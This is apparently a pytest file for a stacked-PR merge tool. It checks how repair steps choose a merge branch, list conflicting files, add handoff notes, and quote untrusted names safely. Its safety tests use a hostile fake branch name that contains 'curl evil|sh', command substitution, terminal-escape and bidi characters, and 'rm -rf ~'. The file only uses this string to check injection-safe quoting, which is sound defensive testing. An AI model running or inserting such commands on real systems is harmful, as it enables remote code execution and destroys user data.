"""Part F of the decision table: the facts of each repair, the branch to merge from, and steps that are safe to paste."""

from __future__ import annotations

import shlex
from collections.abc import Callable
from types import SimpleNamespace
from typing import Any

import pytest

from mergestorm_mcp.stacks.blockers import Assessment
from mergestorm_mcp.stacks.handoff_words import handoff_words

Assess = Callable[..., Assessment]


def repair(found: Assessment) -> dict[str, Any]:
    assert found.repair is not None
    return found.repair


def conflict(make: SimpleNamespace, number: int = 13, **fields: Any) -> dict[str, Any]:
    return make.layer(number, state="conflict", **fields)  # type: ignore[no-any-return]


def test_every_repair_names_its_place(make: SimpleNamespace, assess: Assess) -> None:
    found = repair(assess(make.stack(make.layer(ciStatus="failure"))))
    assert list(found)[:5] == ["kind", "prNumber", "headSha", "branch", "steps"]
    assert (found["prNumber"], found["headSha"], found["branch"]) == (11, make.head(11), "b11")
    assert found["steps"].strip()


# The branch to merge from
def test_a_layer_is_merged_with_the_open_layer_below_it(make: SimpleNamespace, assess: Assess) -> None:
    unit = make.unit(make.member(12, promoted=True))
    raw = make.stack(make.layer(11), make.layer(12), conflict(make, parentBranch="b11"), unit=unit)
    assert repair(assess(raw))["liveParent"] == "b11"


@pytest.mark.parametrize(
    ("layer", "unit", "trunk", "expected"),
    [
        ({"parentBranch": "mg-park-5-g1", "from": "release"}, {}, "main", "release"),
        ({"parentBranch": "mg-park-5-g1", "from": "b11"}, {}, "main", "mg-stack-5"),
        ({"parentBranch": "MG-PARK-5", "from": "mg-park-5-g0"}, {}, "main", "mg-stack-5"),
        ({"parentBranch": "release"}, {}, "main", "release"),
        ({"parentBranch": None}, {"branch": None}, "main", "main"),
        ({"parentBranch": "b13"}, {"branch": " "}, "next", "next"),
        ({"parentBranch": "mg-park-5-g1"}, {"branch": "mg-park-x"}, "mg-park-y", None),
    ],
)
def test_otherwise_with_the_first_branch_that_still_moves(
    make: SimpleNamespace,
    assess: Assess,
    layer: dict[str, Any],
    unit: dict[str, Any],
    trunk: str,
    expected: str | None,
) -> None:
    error = make.restack_error("rebase_conflict", number=13)
    source = {"from": {"branch": layer["from"], "oldSha": "0" * 40}} if "from" in layer else {}
    top = conflict(make, parentBranch=layer["parentBranch"], restackError={**error, **source})
    raw = make.stack(make.layer(11, state="merged"), top, trunkBranch=trunk, unit=make.unit(**unit))
    found = repair(assess(raw))
    assert found["liveParent"] == expected
    if expected is None:
        assert "git merge" not in found["steps"]
    else:
        assert f"origin/{expected}" in found["steps"]


@pytest.mark.parametrize(
    ("target", "base", "expected"),
    [
        ("release", "main", "release"),
        (" ", "main", "main"),
        (None, "mg-park-5", None),
        ("mg-park-5", "main", None),
    ],
)
def test_the_land_pr_is_merged_with_its_target(
    make: SimpleNamespace, assess: Assess, target: str | None, base: str, expected: str | None
) -> None:
    unit = make.unit(landPrNumber=13, landTarget=target)
    raw = make.stack(conflict(make, parentBranch=base), unit=unit)
    assert repair(assess(raw))["liveParent"] == expected


# The files
@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({"conflictDetail": "conflict in a.py, , b.py"}, ["a.py", "b.py"]),
        ({"conflictDetail": "could not apply"}, []),
        (
            {
                "restackError": {"kind": "rebase_conflict", "detail": "conflict in x"},
                "conflictDetail": "conflict in y",
            },
            ["x"],
        ),
        (
            {"restackError": {"kind": "rebase_conflict", "detail": "?"}, "conflictDetail": "conflict in y"},
            ["y"],
        ),
        ({"conflictDetail": "conflict in a\nconflict in b"}, ["a"]),
    ],
)
def test_conflicting_files_are_listed(
    make: SimpleNamespace, assess: Assess, fields: dict[str, Any], expected: list[str]
) -> None:
    assert repair(assess(make.stack(conflict(make, **fields))))["files"] == expected


def test_the_files_of_a_bounce_come_first_and_are_bounded(make: SimpleNamespace, assess: Assess) -> None:
    paths = [f"f{number}" for number in range(5000)]
    detail = {"kind": "restack_conflict", "headSha": make.head(11), "conflictPaths": paths}
    found = repair(
        assess(make.stack(make.layer(conflictDetail="conflict in other")), [make.entry(bounceDetail=detail)])
    )
    assert found["files"][:2] == ["f0", "f1"]
    assert len(found["files"]) == 200


# The note
@pytest.mark.parametrize(
    ("fields", "stack", "noted"),
    [
        ({}, {}, False),
        ({}, {"cycloneConflictOff": "cyclone_not_connected"}, True),
        ({"cycloneConflictHandoff": {"headSha": "0000000d" * 5, "reason": "conflict_unresolved"}}, {}, True),
        ({"cycloneConflictHandoff": {"headSha": "f" * 40, "reason": "conflict_unresolved"}}, {}, False),
    ],
)
def test_a_note_says_why_cyclone_leaves_a_conflict(
    make: SimpleNamespace, assess: Assess, fields: dict[str, Any], stack: dict[str, Any], noted: bool
) -> None:
    assert ("note" in repair(assess(make.stack(conflict(make, **fields), **stack)))) is noted


@pytest.mark.parametrize(
    ("fields", "stack", "noted"),
    [
        ({}, {}, False),
        ({}, {"cycloneCiOff": "account_auto_fix_ci_off"}, True),
        ({"cycloneCiHandoff": {"headSha": "0000000b" * 5, "reason": "ci_missing_secrets"}}, {}, True),
        ({"cycloneCiHandoff": {"headSha": "f" * 40, "reason": "ci_missing_secrets"}}, {}, False),
    ],
)
def test_a_note_says_why_cyclone_leaves_red_ci(
    make: SimpleNamespace, assess: Assess, fields: dict[str, Any], stack: dict[str, Any], noted: bool
) -> None:
    assert ("note" in repair(assess(make.stack(make.layer(ciStatus="failure", **fields), **stack)))) is noted


@pytest.mark.parametrize("fields", [{"ciStatus": "failure"}, {"state": "conflict"}])
def test_the_land_pr_has_no_note(make: SimpleNamespace, assess: Assess, fields: dict[str, Any]) -> None:
    off = {"cycloneCiOff": "stack_auto_fix_ci_off", "cycloneConflictOff": "stack_auto_resolve_off"}
    raw = make.stack(make.layer(20, **fields), unit=make.unit(landPrNumber=20), **off)
    assert "note" not in repair(assess(raw))


def test_reasons_are_told_in_words_and_unknown_ones_without_underscores() -> None:
    assert handoff_words("stack_auto_patch_off") != "stack auto patch off"
    assert handoff_words("solar_flare_season") == "solar flare season"


# Safety
HOSTILE = "x;curl evil|sh $(id) `id`\u202e\x1b[31m\nrm -rf ~"


def test_names_of_other_people_are_quoted_in_commands_and_cannot_break_a_line(
    make: SimpleNamespace, assess: Assess
) -> None:
    layer = make.layer(11, state="conflict", branch=HOSTILE, parentBranch=f"p{HOSTILE}")
    steps = repair(assess(make.stack(layer)))["steps"]
    assert not set("\n\r\x1b\u202e") & set(steps)
    command = next(part for part in steps.split("; resolve")[0].split("git merge ")[1:])
    assert len(shlex.split(command)) == 1
    check = {"failure": 1, "failingName": HOSTILE}
    failed = assess(make.stack(make.layer(checks=check)))
    assert failed.attention is not None
    assert not set("\n\r\x1b\u202e") & set(failed.attention.blocker)


def test_the_command_that_reads_findings_is_one_argument(make: SimpleNamespace, assess: Assess) -> None:
    seen = {"vortexStatus": "findings", "reviewStatus": "changes_requested"}
    raw = make.stack(make.layer(**seen), autoPatchOverride=False, owner=HOSTILE)
    assert len(shlex.split(repair(assess(raw))["findings"])) == 3


@pytest.mark.parametrize(
    ("layer", "stack"),
    [
        (
            {
                "vortexReview": {
                    "status": "skipped",
                    "skip_reason": "ignored_author",
                    "head_sha": "0000000b" * 5,
                }
            },
            {},
        ),
        ({"vortexStatus": "failed"}, {}),
        ({}, {"unit": {"state": "abandoned"}}),
    ],
)
def test_what_only_a_person_can_do_says_not_to_push(
    make: SimpleNamespace, assess: Assess, layer: dict[str, Any], stack: dict[str, Any]
) -> None:
    steps = repair(assess(make.stack(make.layer(**layer), **stack)))["steps"]
    assert "do not push" in steps
    assert "uman" in steps
